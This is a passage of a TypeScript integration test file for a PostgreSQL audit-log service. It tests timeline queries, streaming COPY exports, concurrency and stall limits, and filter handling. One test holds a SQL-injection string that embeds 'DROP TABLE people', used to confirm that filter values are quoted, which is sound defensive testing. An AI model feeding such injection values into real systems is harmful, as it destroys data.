      for (const correlationId of ['corr-first', 'corr-second']) {
        const found = await request(withDoc.getHttpServer())
          .get('/api/ops/timeline')
          .query({ correlationId })
          .set('x-role', 'auditor')
          .expect(200);
        expect([correlationId, found.body.changes.map((c: { transaction_id: string }) => c.transaction_id)]).toEqual([
          correlationId,
          [both],
        ]);
      }
      expect(doc.paths['/api/ops/export'].get.responses['400'].content['application/json'].schema.$ref).toBe(
        '#/components/schemas/ErrorSchema',
      );
    } finally {
      await withDoc.close();
    }
  });

  describe('streaming through COPY', () => {
    const BULK = 2500; // about 1.5 MB of NDJSON: many COPY chunks
    /** `rows` synthetic changes of a table that exists only in the audit log; three share each captured_at, so keyset pages split ties. */
    async function insertChanges(table: string, rows: number, noteRepeat: number): Promise<void> {
      await db.query(
        `INSERT INTO audit_changes (transaction_id, table_schema, table_name, op, table_pk, data_after, captured_at)
        SELECT '00000000-0000-0000-0000-00000000b01c', 'public', $1, 'insert', jsonb_build_object('id', g),
               jsonb_build_object('id', g, 'note', repeat('é,"\\', $2) || g), now() - (g / 3) * interval '1 millisecond'
        FROM generate_series(1, $3::int) g`,
        [table, noteRepeat, rows],
      );
    }
    beforeAll(async () => {
      await db.query(
        `INSERT INTO audit_transactions (id, txid, occurred_at, actor_ref) VALUES ('00000000-0000-0000-0000-00000000b01c', 1, now(), '{"type":"system","id":"bulk"}')`,
      );
      await insertChanges('bulk_export', BULK, 100);
      await insertChanges('bulk_http', 10_000, 2000); // about 80 MB: far more than socket buffers, so the COPY is still running when the client leaves
    });

    async function activeCopies(): Promise<number[]> {
      const rows: { pid: number }[] = await db.query(
        `SELECT pid FROM pg_stat_activity WHERE state = 'active' AND query LIKE 'COPY (SELECT%' AND pid <> pg_backend_pid()`,
      );
      return rows.map((r) => r.pid);
    }
    /** Whether the backend has gone within a few seconds (a connection pooled mid-COPY would stay). */
    async function backendGone(pid: number): Promise<boolean> {
      for (let i = 0; i < 50; i++) {
        const [{ n }] = await db.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE pid = $1`, [pid]);
        if (n === 0) return true;
        await new Promise((r) => setTimeout(r, 100));
      }
      return false;
    }

    it('cuts at maxRows exactly wherever chunk and keyset page boundaries fall, in every format, in timeline order', async () => {
      const ids: string[] = [];
      for await (const change of queries.streamChanges({ table: 'bulk_export' })) ids.push(change.id);
      expect(ids).toHaveLength(BULK);
      const cases: [number | null, number | undefined][] = [
        [1, undefined],
        [999, 1000],
        [1000, 1000],
        [1000, 500],
        [BULK - 1, undefined],
        [BULK, 1000],
        [BULK, 700],
        [BULK + 1, 1250],
        [null, undefined],
        [null, 1000],
        [300, 3],
        [301, 3],
      ];
      for (const [maxRows, pageRows] of cases) {
        const expected = maxRows === null ? BULK : Math.min(maxRows, BULK);
        const truncated = maxRows !== null && maxRows < BULK;
        const label = { maxRows, pageRows };
        const nd = await exports.exportChanges({ table: 'bulk_export' }, { format: 'ndjson', maxRows, pageRows });
        expect({ ...label, returnedCount: nd.returnedCount, truncated: nd.truncated }).toEqual({
          ...label,
          returnedCount: expected,
          truncated,
        });
        const rows = nd.body.split('\n');
        expect(rows.pop()).toBe('');
        expect(rows.map((line) => JSON.parse(line).id)).toEqual(ids.slice(0, expected));
        const json = JSON.parse(
          (await exports.exportChanges({ table: 'bulk_export' }, { format: 'json', maxRows, pageRows })).body,
        );
        expect({ ...label, returned_count: json.returned_count, truncated: json.truncated }).toEqual({
          ...label,
          returned_count: expected,
          truncated,
        });
        expect(json.changes.map((c: { id: string }) => c.id)).toEqual(ids.slice(0, expected));
        const csv = await exports.exportChanges({ table: 'bulk_export' }, { format: 'csv', maxRows, pageRows });
        const parsed: Record<string, string>[] = parse(csv.body, { columns: true });
        expect(parsed.map((r) => r.id)).toEqual(ids.slice(0, expected));
        const image = JSON.parse(parsed[0].data_after);
        expect(image.note).toBe(`${'é,"\\'.repeat(100)}${image.id}`);
      }
      expect(await activeCopies()).toEqual([]);
      await expect(exports.exportChanges({}, { format: 'csv', pageRows: 0 })).rejects.toThrow(
        'pageRows must be a positive integer (got 0)',
      );
    });

    it('takes filter values as quoted literals, never as SQL', async () => {
      const hostile = `x'); DROP TABLE people; -- \\' \\`;
      const context = app.get(ThreadlineContext);
      await context.run({ correlationId: hostile }, () =>
        context.transaction(ActorRef.user('9'), (m) => m.query(`UPDATE people SET name = 'hostile' WHERE id = 2`)),
      );
      const timeline = await queries.timeline({ correlationId: hostile });
      expect(timeline.changes).toHaveLength(1);
      const nd = await exports.exportChanges({ correlationId: hostile }, { format: 'ndjson' });
      expect(
        nd.body
          .trim()
          .split('\n')
          .map((l) => JSON.parse(l)),
      ).toEqual(timeline.changes);
      expect(await db.query(`SELECT count(*)::int AS n FROM people`)).toEqual([{ n: 25 }]);
    });

    it('survives its database connection being terminated mid-COPY: the export fails with the reason, the process and the pool go on', async () => {
      const chunks = exports.chunks({ table: 'bulk_export' }, { format: 'ndjson', maxRows: null });
      let failure: unknown;
      // a watcher terminates the first COPY it sees running, while a slow reader keeps the server's COPY waiting on
      // the socket (checking only between chunks missed every COPY once on a loaded machine: each page had finished)
      let reading = true;
      const terminated = (async () => {
        while (reading) {
          const [pid] = await activeCopies();
          if (pid !== undefined) return (await db.query(`SELECT pg_terminate_backend($1) AS done`, [pid]))[0].done;
          await new Promise((r) => setTimeout(r, 2));
        }
        return false;
      })();
      try {
        for await (const chunk of chunks) {
          expect(chunk.length).toBeGreaterThan(0);
          await new Promise((r) => setTimeout(r, 20));
        }
      } catch (error) {
        failure = error;
      } finally {
        reading = false;
      }
      expect(await terminated).toBe(true);
      expect(String(failure)).toMatch(/terminat/i);
      // the app still answers from its pool
      const people = (await queries.timeline({ table: 'people' }, { limit: 1000 })).changes.length;
      expect((await exports.exportChanges({ table: 'people' }, { format: 'csv' })).returnedCount).toBe(people);
    });

    it('more slow readers than operator.maxConcurrentExports: the rest get 429 with Retry-After, and writes and reads go on', async () => {
      const limited = await boot({
        authorize: (req: Request) => req.header('x-role') === 'auditor',
        maxConcurrentExports: 2,
      });
      await limited.listen(0);
      const { port } = limited.getHttpServer().address();
      const open: ClientRequest[] = [];
      const start = () =>
        new Promise<{ status: number; retryAfter?: string; body: string }>((resolve, reject) => {
          const req = get(
            {
              port,
              path: '/audit/export?format=ndjson&table=bulk_http&maxRows=10000',
              headers: { 'x-role': 'auditor' },
            },
            (res) => {
              if (res.statusCode === 200) {
                res.once('data', () => {
                  res.pause(); // a client reading at a trickle: it holds its export's connection
                  resolve({ status: 200, body: '' });
                });
                return;
              }
              let body = '';
              res.on('data', (chunk) => (body += chunk));
              res.on('end', () =>
                resolve({ status: res.statusCode!, retryAfter: res.headers['retry-after'] as string, body }),
              );
            },
          );
          open.push(req);
          req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
        });
      try {
        expect((await start()).status).toBe(200);
        expect((await start()).status).toBe(200);
        for (let i = 0; i < 8; i++) {
          const busy = await start();
          expect(busy).toMatchObject({ status: 429, retryAfter: '5' });
          expect(JSON.parse(busy.body).message).toMatch(
            /2 exports are streaming already \(operator\.maxConcurrentExports\)/,
          );
        }
        // a bad request is a 400 whether or not a slot is free
        const bad = await request(limited.getHttpServer())
          .get('/audit/export?format=csv&from=2026-02-30')
          .set('x-role', 'auditor')
          .expect(400);
        expect(bad.body.message).toMatch(/^from must be an ISO 8601 date/);
        // the app's own work is not starved by the two readers
        const context = limited.get(ThreadlineContext);
        await context.transaction(ActorRef.user('9'), (m) => m.query(`INSERT INTO people VALUES (900, 'during', 'x')`));
        expect((await limited.get(AuditQueryService).timeline({ table: 'people' }, { limit: 5 })).changes.length).toBe(
          5,
        );
        // a slot frees when its reader leaves
        open.shift()!.destroy();
        let again = await start();
        for (let i = 0; again.status === 429 && i < 50; i++) {
          await new Promise((r) => setTimeout(r, 100));
          again = await start();
        }
        expect(again.status).toBe(200);
      } finally {
        for (const req of open) req.destroy();
        await limited.close();
      }
    });

    it('a client that stops reading loses its download after operator.exportStallSeconds, and its slot, connection and snapshot with it', async () => {
      const limited = await boot({
        authorize: (req: Request) => req.header('x-role') === 'auditor',
        maxConcurrentExports: 1,
        exportStallSeconds: 1,
      });
      await limited.listen(0);
      const { port } = limited.getHttpServer().address();
      const url = '/audit/export?format=ndjson&table=bulk_http&maxRows=10000';
      const status = () =>
        new Promise<number>((resolve, reject) => {
          const req = get({ port, path: url, headers: { 'x-role': 'auditor' } }, (res) => {
            res.resume();
            resolve(res.statusCode!);
            req.destroy();
          });
          req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
        });
      try {
        const started = Date.now();
        const stalled = await new Promise<ClientRequest>((resolve, reject) => {
          const req = get({ port, path: url, headers: { 'x-role': 'auditor' } }, (res) => {
            res.once('data', () => {
              res.pause(); // reads the first bytes, then never again
              resolve(req);
            });
          });
          req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
        });
        expect(await status()).toBe(429); // it holds the only slot
        let free = 0;
        for (let i = 0; i < 100 && free !== 200; i++) {
          await new Promise((r) => setTimeout(r, 200));
          free = await status();
        }
        expect(free).toBe(200); // the server closed the stalled download and freed the slot
        expect(Date.now() - started).toBeGreaterThanOrEqual(900);
        stalled.destroy();
        // no COPY left: neither the stalled one nor the probe's that just got its 200 (it ends as the probe hangs up)
        let stuck = await activeCopies();
        for (let i = 0; stuck.length && i < 50; i++) {
          await new Promise((r) => setTimeout(r, 100));
          stuck = await activeCopies();
        }
        expect(stuck).toEqual([]);
      } finally {
        await limited.close();
      }
    });

    it('stops the COPY and drops its connection when the consumer stops early, in code or over HTTP', async () => {
      let pid = 0;
      for await (const chunk of exports.chunks({ table: 'bulk_export' }, { format: 'ndjson', maxRows: null })) {
        expect(chunk.length).toBeGreaterThan(0);
        [pid] = await activeCopies();
        break;
      }
      expect(pid).toBeGreaterThan(0);
      expect(await backendGone(pid)).toBe(true);

      await app.listen(0);
      const { port } = app.getHttpServer().address();
      pid = await new Promise<number>((resolve, reject) => {
        const req = get(
          { port, path: '/audit/export?format=ndjson&table=bulk_http&maxRows=10000', headers: { 'x-role': 'auditor' } },
          (res) => {
            res.once('data', async () => {
              res.pause();
              const [copying] = await activeCopies();
              req.destroy(); // the browser tab closed after the first bytes
              resolve(copying);
            });
          },
        );
        req.on('error', (error) => (req.destroyed ? undefined : reject(error)));
      });
      expect(pid).toBeGreaterThan(0);
      expect(await backendGone(pid)).toBe(true);
      // every pooled connection is still usable (none was returned mid-COPY)
      const people = (await queries.timeline({ table: 'people' }, { limit: 1000 })).changes.length;
      for (let i = 0; i < 12; i++)
        expect((await exports.exportChanges({ table: 'people' }, { format: 'csv' })).returnedCount).toBe(people);
    });
  });

  it('a row whose key is too long for a URL has a history all the same: its links name it by a change (change=)', async () => {
    // 100,000 characters: compressible, so PostgreSQL indexes it; as key= the URL would be refused (431)
    const long = 'k'.repeat(100_000);
    await db.query(`CREATE TABLE long_keys (k text PRIMARY KEY, v int)`);
    await db.query((await app.get(CaptureService).triggerSql({ tables: ['long_keys'] })).up);
    await db.query(`INSERT INTO long_keys VALUES ($1, 1), ('short', 1)`, [long]);
    await db.query(`UPDATE long_keys SET v = 2`);
    const ids: { id: string; k: string }[] = await db.query(
      `SELECT id::text AS id, table_pk->>'k' AS k FROM audit_changes WHERE table_name = 'long_keys' ORDER BY id`,
    );
    const longIds = ids.filter((r) => r.k === long).map((r) => r.id);
    const get = (url: string, html = true) => {
      const r = request(app.getHttpServer()).get(url).set('x-role', 'auditor');
      return html ? r.set('accept', 'text/html') : r;
    };
    // the timeline links the long key's history by a change, the short one by its key
    const timeline = await get('/audit/timeline?table=long_keys').expect(200);
    const links = [...timeline.text.matchAll(/href="(\/audit\/history\?[^"]*)"/g)].map((m) =>
      m[1].replace(/&amp;/g, '&'),
    );
    expect(links.filter((l) => l.includes('change='))).toHaveLength(2);
    expect(links.every((l) => l.length < 200)).toBe(true);
    expect(links.filter((l) => l.includes('key='))).toHaveLength(2);
    const page = await get(links.find((l) => l.includes('change='))!).expect(200);
    expect(page.text).toContain('State after');
    expect([...page.text.matchAll(/change (\d+)</g)].map((m) => m[1]).sort()).toEqual([...longIds].sort());
    // the JSON route answers the same by change, with the whole key
    const json = await get(`/audit/history?table=long_keys&change=${longIds[0]}`, false).expect(200);
    expect(json.body.key).toEqual({ k: long });
    expect(json.body.changes.map((c: { id: string }) => c.id).sort()).toEqual([...longIds].sort());
    // bad input: both, neither, not a change id, a change of another table
    const bad = async (q: string, message: string) =>
      expect((await get(`/audit/history?${q}`, false).expect(400)).body.message).toContain(message);
    await bad(
      `table=long_keys&key={"k":"short"}&change=${longIds[0]}`,
      "the row's key (key=) or one of its change ids (change=), not both",
    );
    await bad('table=long_keys', "key must be a string: the row's primary key as JSON (or, instead, change=");
    await bad('table=long_keys&change=abc', 'change must be a change id');
    await bad(`table=people&change=${longIds[0]}`, `change ${longIds[0]} is not a change of a row of public.people`);
  });

  it("a transaction page shows its OpenTelemetry trace, linked to the trace's timeline and to operator.traceUrl", async () => {
    const trace = '0af7651916cd43dd8448eb211c80319c';
    await db.query(`BEGIN; SELECT set_config('threadline.traceparent', '00-${trace}-b7ad6b7169203331-01', true);
      INSERT INTO people VALUES (9001, 'traced', 't@example.com'); COMMIT`);
    const [{ id }] = await db.query(`SELECT id FROM audit_transactions WHERE meta->>'trace_id' = $1`, [trace]);
    const page = await request(app.getHttpServer())
      .get(`/audit/transactions/${id}`)
      .set('x-role', 'auditor')
      .set('accept', 'text/html')
      .expect(200);
    expect(page.text).toContain(`<a href="/audit/timeline?traceId=${trace}">${trace}</a>`);
    expect(page.text).toContain('span b7ad6b7169203331');
    expect(page.text).toContain(
      `<a href="https://tracing.example/trace/${trace}?span=b7ad6b7169203331" rel="noopener">`,
    );
    const json = await request(app.getHttpServer()).get(`/audit/transactions/${id}/changes`).set('x-role', 'auditor');
    expect(json.body.changes[0].transaction.meta).toEqual({ trace_id: trace, span_id: 'b7ad6b7169203331' });
    // a transaction without a trace shows none
    const [{ id: plain }] = await db.query(
      `SELECT transaction_id AS id FROM audit_changes WHERE table_name = 'people' ORDER BY id LIMIT 1`,
    );
    const untraced = await request(app.getHttpServer())
      .get(`/audit/transactions/${plain}`)
      .set('x-role', 'auditor')
      .set('accept', 'text/html')
      .expect(200);
    expect(untraced.text).not.toContain('<dt>Trace</dt>');
  });

  it('walks every filter through every surface: service, JSON route, page, each export format, the CLI manifest', async () => {
    // one transaction with a correlation id, an insert and an update of one row, so each filter selects something
    await db.query(`CREATE TABLE walks (id int PRIMARY KEY, name text)`);
    await db.query((await app.get(CaptureService).triggerSql({ tables: ['walks'] })).up);
    await db.query(`BEGIN;
      SELECT set_config('threadline.actor_ref', '{"type":"user","id":"7"}', true), set_config('threadline.correlation_id', 'walk-1', true),
        set_config('threadline.traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01', true);
      INSERT INTO walks VALUES (100, 'walker'); UPDATE walks SET name = 'walked' WHERE id = 100; COMMIT`);
    const [update] = (await queries.timeline({ op: 'update' })).changes;
    const at = update.captured_at;
    // the oldest change of all (person 1's insert): `to` it selects only what came first, however much later tests add
    const oldest = (await queries.timeline({ table: 'people', key: '{"id":1}' })).changes.at(-1)!.captured_at;
    // the value a user types (URL parameter, form field, --flag) and the normalized value exports name
    const samples: Record<string, [given: string, shown: string]> = {
      table: ['walks', 'public.walks'],
      actor: ['user:7', 'user:7'],
      from: [at, at],
      to: [oldest, oldest],
      correlationId: [' walk-1 ', 'walk-1'],
      op: ['update', 'update'],
      key: ['{ "id": 100 }', '{"id":100}'],
      transaction: [update.transaction_id.toUpperCase(), update.transaction_id],
      traceId: [' 4BF92F3577B34DA6A3CE929D0E0E4736 ', '4bf92f3577b34da6a3ce929d0e0e4736'],
    };
    expect(Object.keys(samples).sort()).toEqual(TIMELINE_FILTERS.map((f) => f.param).sort());
    const server = app.getHttpServer();
    const dir = mkdtempSync(join(tmpdir(), 'walk-'));
    const command = app.get(ExportCommand);
    try {
      for (const { param } of TIMELINE_FILTERS) {
        const [given, shown] = samples[param];
        const expected: string[] = [];
        for await (const change of queries.streamChanges(filtersFromParams({ [param]: given })))
          expected.push(change.id);
        expect([param, expected.length > 0]).toEqual([param, true]);
        const qs = `${param}=${encodeURIComponent(given)}`;
        // the JSON route, page by page (a page stops at 1000 changes or PAGE_MAX_BYTES of them, whichever first)
        const routed: string[] = [];
        for (let cursor = ''; routed.length < 1000;) {
          const json = await request(server)
            .get(`/audit/timeline?${qs}&limit=1000${cursor && `&cursor=${cursor}`}`)
            .set('x-role', 'auditor')
            .expect(200);
          routed.push(...json.body.changes.map((c: { id: string }) => c.id));
          if (!json.body.nextCursor) break;
          cursor = json.body.nextCursor;
        }
        expect([param, routed.slice(0, 1000)]).toEqual([param, expected.slice(0, 1000)]);
        const page = await request(server)
          .get(`/audit/timeline?${qs}`)
          .set('x-role', 'auditor')
          .set('accept', 'text/html')
          .expect(200);
        const links = [...page.text.matchAll(/href="[^"]*\/export\?([^"]*)"/g)].map(
          (m) => new URLSearchParams(m[1].replace(/&amp;/g, '&')),
        );
        expect(links.map((l) => [l.get(param), l.get('format')])).toEqual(EXPORT_FORMATS.map((f) => [given, f]));
        const doc = await request(server)
          .get(`/audit/export?${qs}&format=json&maxRows=1000000`)
          .set('x-role', 'auditor')
          .expect(200);
        const body = JSON.parse(doc.text);
        expect([param, body.filters, body.changes.map((c: { id: string }) => c.id)]).toEqual([
          param,
          { [param]: shown },
          expected,
        ]);
        const nd = await request(server)
          .get(`/audit/export?${qs}&format=ndjson&maxRows=1000000`)
          .set('x-role', 'auditor')
          .expect(200);
        expect(
          nd.text
            .trim()
            .split('\n')
            .map((line) => JSON.parse(line).id),
        ).toEqual(expected);
        const csv = await request(server)
          .get(`/audit/export?${qs}&format=csv&maxRows=1000000`)
          .set('x-role', 'auditor')
          .expect(200);
        expect((parse(csv.text, { columns: true }) as { id: string }[]).map((r) => r.id)).toEqual(expected);
        const out = join(dir, `${param}.json`);
        await command.run([], { format: 'json', out, [param]: given } as never);
        const manifest = JSON.parse(readFileSync(`${out}.manifest.json`, 'utf8'));
        expect([param, manifest.filters, manifest.row_count]).toEqual([param, { [param]: shown }, expected.length]);
        expect(JSON.parse(readFileSync(out, 'utf8')).filters).toEqual(manifest.filters);
      }
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
